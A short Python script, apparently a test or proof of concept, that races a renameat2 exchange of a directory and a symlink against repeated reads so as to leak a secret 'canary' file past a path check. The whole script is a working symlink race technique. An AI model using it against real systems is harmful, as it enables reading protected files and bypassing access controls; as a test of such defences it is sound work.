# Swaps a directory and a link to a secret one, and reads through them meanwhile.
import threading
over, seen = [], set()
os.symlink(sys.argv[1], "link")


def swap():
    while not over:
        call(316, 276, -100, b"real", -100, b"link", 2)


thread = threading.Thread(target=swap)
thread.start()
for _ in range(2000):
    try:
        seen.add(open("real/file").read().strip())
    except OSError:
        pass
over.append(True)
thread.join()
print("seen", "canary" if "canary" in seen else "public")
